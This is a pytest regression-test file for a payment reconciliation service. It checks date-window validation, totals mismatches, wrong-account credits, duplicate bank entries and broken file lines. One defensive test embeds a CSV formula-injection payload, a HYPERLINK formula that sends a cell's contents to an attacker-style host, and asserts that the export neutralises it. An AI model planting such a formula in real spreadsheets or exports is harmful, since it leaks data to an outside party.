"""Reconciliation faults found by a breaker (dates outside any sane window, a poisoned day stalling the
poller, a report RECONCILED while its money disagrees, formula injection, conflicting bank entries…):
one regression test per class of fault. Same day and helpers as test_reference_reconciliation.py."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest

from tests.reference import test_reference_reconciliation as base
from tests.reference.test_reference_reconciliation import FILE_AT, STATEMENT_AT, bank, deliver, opened

pay = base.pay  # the fixture: n paid orders of Cairo on Monday


def _error(response):
    return (response.get_json() or {}).get("error") or {}


# --- (C) dates far in the future or past -------------------------------------------------------------
@pytest.mark.parametrize(("where", "value", "field"), [
    ("file", "9999-12-31", "business_date"),
    ("batch_business", "9999-12-31", "batches.0.business_date"),
    ("batch_value", "0001-01-01", "batches.0.value_date"),
])
def test_a_file_dated_outside_the_window_is_refused_naming_the_field(ref, pay, where, value, field):
    pay(1)
    ref.set_clock(FILE_AT)
    body = ref.settlement_file([ref.file_line()])
    if where == "file":
        body["business_date"] = value
    elif where == "batch_business":
        body["batches"][0]["business_date"] = value
    else:
        body["batches"][0]["value_date"] = value

    response = ref.post_file(body)

    assert response.status_code == 422 and _error(response)["field"] == field
    assert ref.exceptions() == [] and ref.reconciliation()["governorates"][0]["file"]["count"] == 0


def test_a_file_line_dated_outside_the_window_is_a_broken_line(ref, pay):
    pay(1)
    ref.set_clock(FILE_AT)
    body = ref.settlement_file([ref.file_line()])
    body["content"] = body["content"].replace("2026-12-07,2026-12-09", "9999-12-31,2026-12-09")

    response = ref.post_file(body)

    assert response.status_code == 201, response.get_json()
    answer = response.get_json()
    assert answer["broken_lines"] == 1 and answer["readable_lines"] == 0
    assert ref.client.get("/api/reconciliation/2026-12-07").status_code == 200
    assert ref.client.get("/api/reports/daily?date=2026-12-07").status_code == 200


@pytest.mark.parametrize(("change", "field"), [
    ({"credited_at": "9999-12-31T23:59:59Z"}, "entries.0.credited_at"),
    ({"value_date": "9999-12-31", "reference": "X"}, "entries.0.value_date"),
    ({"reference": "B-01-99991231"}, "entries.0.reference"),
    ({"value_date": "1999-12-31"}, "entries.0.value_date"),
])
def test_a_bank_entry_dated_outside_the_window_is_refused_naming_the_field(ref, pay, change, field):
    pay(1)
    deliver(ref)
    ref.set_clock(STATEMENT_AT)

    response = ref.post_statement(ref.statement(dict(ref.credit(), **change)))

    assert response.status_code == 422 and _error(response)["field"] == field
    assert ref.reconciliation()["governorates"][0]["bank"]["count"] == 0
    assert ref.client.get("/api/reports/daily?date=2026-12-07").status_code == 200


@pytest.mark.parametrize(("change", "field"), [
    ({"business_date": "9999-12-31"}, "business_date"),
    ({"credited_at": "9999-12-31T23:59:59Z"}, "credited_at"),
    ({"value_date": "1970-01-01"}, "value_date"),
])
def test_a_notice_dated_outside_the_window_is_refused_naming_the_field(ref, pay, change, field):
    pay(1)
    ref.set_clock(STATEMENT_AT)
    body = {"notice_id": "N-1", "batch_id": "B-01-20261207", "governorate_code": "01",
            "business_date": "2026-12-07", "value_date": "2026-12-09",
            "credited_at": ref.at("2026-12-09T10:00:00+02:00"), "iban": "EG470019000100000000010000001",
            "amount": "855.00", "collection_fees": "0.00", "currency": "EGP", "mode": "gross", "transactions": []}
    body.update(change)

    response = ref.signed("/settlement/notices", body, "settlement_notice")

    assert response.status_code == 422 and _error(response)["field"] == field


def test_one_failing_day_does_not_stall_the_poller_for_the_others(ref, pay, caplog):
    pay(1)
    deliver(ref)  # the day is reconciled; now mark two days dirty and make one of them fail
    recon = ref.app.extensions["reference"]["reconciliation"]
    store = ref.app.extensions["reference"]["store"]
    with store.transaction():
        for gov in ("01", "02"):
            recon.ensure_day(gov, date(2026, 12, 7))
            store.mark_day_dirty(gov, "2026-12-07", ref.now(), force=True)
    real = recon.reconcile_day
    ran = []

    def failing(governorate_code, business_date, **kwargs):
        if governorate_code == "01":
            raise OverflowError("date value out of range")
        ran.append((governorate_code, business_date))
        return real(governorate_code, business_date, **kwargs)

    recon.reconcile_day = failing
    try:
        ref.tick()
    finally:
        recon.reconcile_day = real

    assert ("02", "2026-12-07") in ran
    assert any("01 2026-12-07" in record.getMessage() for record in caplog.records)


# --- (A) never RECONCILED while the money disagrees ----------------------------------------------------
def test_a_batch_declaring_less_than_its_lines_is_a_file_totals_mismatch(ref, pay):
    pay(1)
    deliver(ref, declared={"B-01-20261207": "800.00"})  # lines and gross 855.00, amount 800.00 (gross mode)
    bank(ref, ref.credit("800.00"))

    report = ref.reconciliation()

    assert ("FILE_TOTALS_MISMATCH", "55.00") in opened(ref)
    assert report["status"] == report["governorates"][0]["status"] == "EXCEPTIONS"


def test_a_net_batch_deducting_more_fees_than_its_lines_carry_is_a_file_totals_mismatch(ref, pay):
    pay(3)
    lines = [dict(ref.file_line(f"KH-TXN-{n}"), collection_fee="5.00") for n in (1, 2, 3)]
    ref.set_clock(FILE_AT)
    body = ref.settlement_file(lines)
    body["batches"][0].update(mode="net", collection_fees="100.00", amount="2465.00")
    body.update(collection_fees="100.00", net_amount="2465.00")
    assert ref.post_file(body).status_code == 201

    assert opened(ref) == [("FILE_TOTALS_MISMATCH", "85.00")]
    assert ref.reconciliation()["status"] == "EXCEPTIONS"


def test_a_file_whose_batches_add_up_opens_no_totals_mismatch(ref, pay):
    pay(1)
    deliver(ref)
    bank(ref)

    assert opened(ref) == [] and ref.reconciliation()["status"] == "RECONCILED"


def test_a_day_credited_beyond_the_ledger_with_nothing_else_open_is_a_day_level_over_settlement(ref, pay):
    pay(1)
    deliver(ref, [ref.file_line(amount="955.00")])  # one line of 955.00 for a payment of 855.00
    bank(ref, ref.credit("955.00"))

    [exc] = ref.exceptions(status="OPEN")
    report = ref.reconciliation()

    assert (exc["kind"], exc["amount"]) == ("OVER_SETTLEMENT", "100.00")
    assert exc["exception_key"] == "OVER_SETTLEMENT:DAY:01:2026-12-07"
    assert report["governorates"][0]["settlement"]["status"] == "OVER"
    assert report["status"] == report["governorates"][0]["status"] == "EXCEPTIONS"


# --- (I) formula injection and over-long fields --------------------------------------------------------
PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def test_the_daily_report_csv_neutralises_formula_cells(ref, pay):
    pay(1)
    ref.set_clock(FILE_AT)
    lines = [ref.file_line("KH-TXN-1"), ref.file_line("KH-GHOST", "100.00", bill_reference="PLACEHOLDER")]
    body = ref.settlement_file(lines)
    body["content"] = body["content"].replace("PLACEHOLDER", '"' + PAYLOAD.replace('"', '""') + '"')
    assert ref.post_file(body).status_code == 201

    response = ref.client.get("/api/reports/daily?date=2026-12-07&format=csv&bom=1")

    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    assert response.status_code == 200 and any(("'" + PAYLOAD) in row for row in rows)
    assert [cell for row in rows for cell in row if cell[:1] in ("=", "+", "@")] == []


def test_an_over_long_text_field_is_a_broken_line(ref, pay):
    pay(1)
    answer = deliver(ref, [ref.file_line(bill_reference="X" * 5000)])

    assert answer["broken_lines"] == 1 and answer["readable_lines"] == 0
    assert "bill_reference" in answer["broken"][0]["reason"]


# --- (J) an entry id already credited, seen again with other content --------------------------------
def test_a_known_entry_id_with_other_content_is_a_conflict_and_nothing_is_stored(ref, pay):
    pay(1)
    deliver(ref)
    bank(ref, ref.credit("855.00", entry_id="BS-00000001"))
    ref.set_clock("2026-12-10T18:00:00+02:00")
    other = ref.statement(ref.credit("10.00", entry_id="BS-00000001", reference="B-01-20261208"),
                          ref.credit("5.00", entry_id="BS-NEW"), statement_date="2026-12-10", statement_id="BS-2")

    response = ref.post_statement(other)

    assert response.status_code == 409 and _error(response)["field"] == "entries.0.entry_id"
    report = ref.reconciliation()
    assert report["governorates"][0]["bank"]["amount"] == "855.00" and report["status"] == "RECONCILED"
    again = ref.statement(ref.credit("855.00", entry_id="BS-00000001"), statement_date="2026-12-10",
                          statement_id="BS-3")
    same = ref.post_statement(again)
    assert same.status_code == 201 and same.get_json()["repeated_entries"] == 1
    assert ref.reconciliation()["status"] == "RECONCILED"


# --- (B) money paid to another governorate's account --------------------------------------------------
ALEXANDRIA_IBAN = "EG450003000100000000020000001"


@pytest.mark.parametrize("entry", [
    {"iban": ALEXANDRIA_IBAN, "governorate_code": "02"},  # Alexandria's account, Cairo's batch
    {"iban": "EG000000000000000000000000000"},  # nobody's account
])
def test_a_credit_to_the_wrong_account_is_wrong_account_and_not_counted(ref, pay, entry):
    pay(1)
    deliver(ref)

    bank(ref, dict(ref.credit(), **entry))

    report = ref.reconciliation()
    assert opened(ref) == [("WRONG_ACCOUNT", "855.00")]
    [cairo] = [g for g in report["governorates"] if g["governorate_code"] == "01"]
    assert cairo["declared"]["batches"][0]["credited_amount"] is None
    assert cairo["settlement"]["status"] == "PENDING" and report["status"] == "EXCEPTIONS"


# --- (F) a correction is not a duplicate ------------------------------------------------------------------
def test_a_file_moving_a_held_line_to_another_batch_is_accepted_not_duplicate(ref, pay):
    pay(2)
    deliver(ref, [ref.file_line("KH-TXN-1"), ref.file_line("KH-TXN-2", governorate="21")])

    correction = deliver(ref, [ref.file_line("KH-TXN-2", batch_id="B-01-20261207-2")],
                         at="2026-12-09T01:00:00+02:00", sequence=2)
    same_again = deliver(ref, [ref.file_line("KH-TXN-2", batch_id="B-01-20261207-2")],
                         at="2026-12-09T02:00:00+02:00", sequence=3)

    assert correction["status"] == "ACCEPTED" and correction["duplicate_of"] is None
    assert same_again["status"] == "DUPLICATE" and same_again["duplicate_of"] == "SF-20261207-2"


# --- (H) a line that is not of its batch's governorate or date -------------------------------------------
@pytest.mark.parametrize("line", [
    {"governorate_code": "01", "batch_id": "B-02-20261207"},  # Cairo's line inside Alexandria's batch
    {"business_date": "2026-12-06"},  # Sunday's line inside Monday's batch
])
def test_a_line_not_of_its_batchs_governorate_or_date_is_a_broken_line(ref, pay, line):
    pay(1)
    ref.set_clock(FILE_AT)
    body = ref.settlement_file([ref.file_line()])  # the batch as declared: B-01-20261207, 01, Monday
    declared = dict(body["batches"][0])
    changed = dict(ref.file_line(), **line)
    body = ref.settlement_file([changed])
    body["batches"] = [dict(declared, batch_id=changed["batch_id"],
                            governorate_code="02" if changed["batch_id"].startswith("B-02") else "01")]

    response = ref.post_file(body)

    assert response.status_code == 201, response.get_json()
    assert response.get_json()["broken_lines"] == 1 and response.get_json()["readable_lines"] == 0


# --- (E) many broken lines open a bounded number of exceptions -------------------------------------------
def test_many_broken_lines_open_the_first_hundred_one_by_one_and_one_summary(ref, pay):
    pay(1)
    lines = [ref.file_line("KH-TXN-1")] + [ref.file_line(f"KH-X-{n}", "10.00") for n in range(150)]
    ref.set_clock(FILE_AT)
    body = ref.settlement_file(lines)
    body["content"] = body["content"].replace(",10.00,", ",1O.00,")  # every KH-X line's amount is unreadable

    response = ref.post_file(body)

    assert response.status_code == 201 and response.get_json()["broken_lines"] == 150
    broken = [e for e in ref.exceptions(status="OPEN") if e["kind"] == "BROKEN_FILE_LINE"]
    assert len(broken) == 101
    assert [e for e in broken if ":REST:" in e["exception_key"]][0]["detail"].startswith("50 more lines")
